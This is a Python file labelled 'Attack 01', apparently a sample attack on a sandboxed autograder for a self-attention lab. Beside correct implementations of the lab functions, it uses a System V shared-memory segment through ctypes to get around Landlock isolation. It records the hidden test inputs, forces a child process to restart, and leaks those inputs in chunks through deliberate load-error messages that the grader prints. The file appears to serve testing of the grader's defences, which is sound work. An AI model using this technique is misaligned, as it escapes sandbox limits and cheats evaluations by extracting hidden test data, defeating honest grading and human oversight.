# Attack 01 — a student's .py for chapter 3 lab 1.
# Every step is implemented correctly. On top of that, the file uses a System V shared-memory
# segment (shmget/shmat through ctypes; not a file, so Landlock does not see it, and the zygote
# makes no IPC namespace) to carry what one sandbox child saw to the next child of the same run:
#   * make_qkv records the arguments of every call it gets (public calls first, then the hidden
#     ones: the hidden cases' X, W_Q, W_K, W_V);
#   * scores ends its own process (os._exit) on its first call after hidden make_qkv calls were
#     recorded, so the driver starts a fresh child and loads the file again;
#   * while loading, that fresh child finds the record and raises one error per top-level
#     statement, each message holding a chunk of the (compressed) hidden inputs. Load errors of
#     every child become "load notes", which every face prints before the steps.
import base64
import ctypes
import json
import os
import zlib

import numpy as np
import pandas as pd

_KEY = 0x7A7A0101
_SIZE = 1 << 20
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]


def _shm_read():
    sid = _libc.shmget(_KEY, _SIZE, 0o1666)
    if sid < 0:
        return {}
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        return {}
    try:
        n = int.from_bytes(ctypes.string_at(addr, 4), "little")
        return json.loads(ctypes.string_at(addr + 4, n)) if 0 < n < _SIZE - 4 else {}
    except Exception:
        return {}
    finally:
        _libc.shmdt(addr)


def _shm_write(state):
    data = json.dumps(state).encode()
    sid = _libc.shmget(_KEY, _SIZE, 0o1666)
    addr = _libc.shmat(sid, None, 0)
    ctypes.memmove(addr, len(data).to_bytes(4, "little") + data, 4 + len(data))
    _libc.shmdt(addr)


_RUN = os.getppid()  # the zygote: the same for every child of this grading run
_STATE = _shm_read()
if _STATE.get("run") != _RUN:
    _STATE = {"run": _RUN, "calls": [], "dumped": False}
_CHUNKS = []
if _STATE["calls"][4:] and not _STATE.get("dumped"):
    blob = base64.urlsafe_b64encode(zlib.compress(json.dumps(_STATE["calls"][4:]).encode(), 9)).decode()
    _CHUNKS = [blob[i:i + 400] for i in range(0, len(blob), 400)]
    _STATE["dumped"] = True
_shm_write(_STATE)
_MY_QKV_CALLS = 0


def _leak(i):
    if i < len(_CHUNKS):
        raise ValueError(f"LEAK{i:02d}of{len(_CHUNKS):02d}:{_CHUNKS[i]}")


def make_qkv(X, W_Q, W_K, W_V):
    global _MY_QKV_CALLS
    _MY_QKV_CALLS += 1
    state = _shm_read()
    state["calls"].append([np.round(np.asarray(a, float), 6).tolist() for a in (X, W_Q, W_K, W_V)])
    _shm_write(state)
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    if _MY_QKV_CALLS > 4 and not _shm_read().get("dumped"):
        os._exit(0)  # first hidden call of scores: a fresh child will load this file again
    return Q @ K.T


def softmax(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    weights = softmax(scores(Q, K) / np.sqrt(K.shape[1]))
    return mix(weights, V), weights


def most_attended(weights, words):
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()


_leak(0)
_leak(1)
_leak(2)
_leak(3)
_leak(4)
_leak(5)
_leak(6)
_leak(7)
_leak(8)
_leak(9)
_leak(10)
_leak(11)
_leak(12)
_leak(13)
_leak(14)
_leak(15)
_leak(16)
_leak(17)
_leak(18)
_leak(19)
_leak(20)
_leak(21)
_leak(22)
_leak(23)
_leak(24)
_leak(25)
_leak(26)
_leak(27)
_leak(28)
_leak(29)
_leak(30)
_leak(31)
_leak(32)
_leak(33)
_leak(34)
_leak(35)
_leak(36)
_leak(37)
_leak(38)
_leak(39)
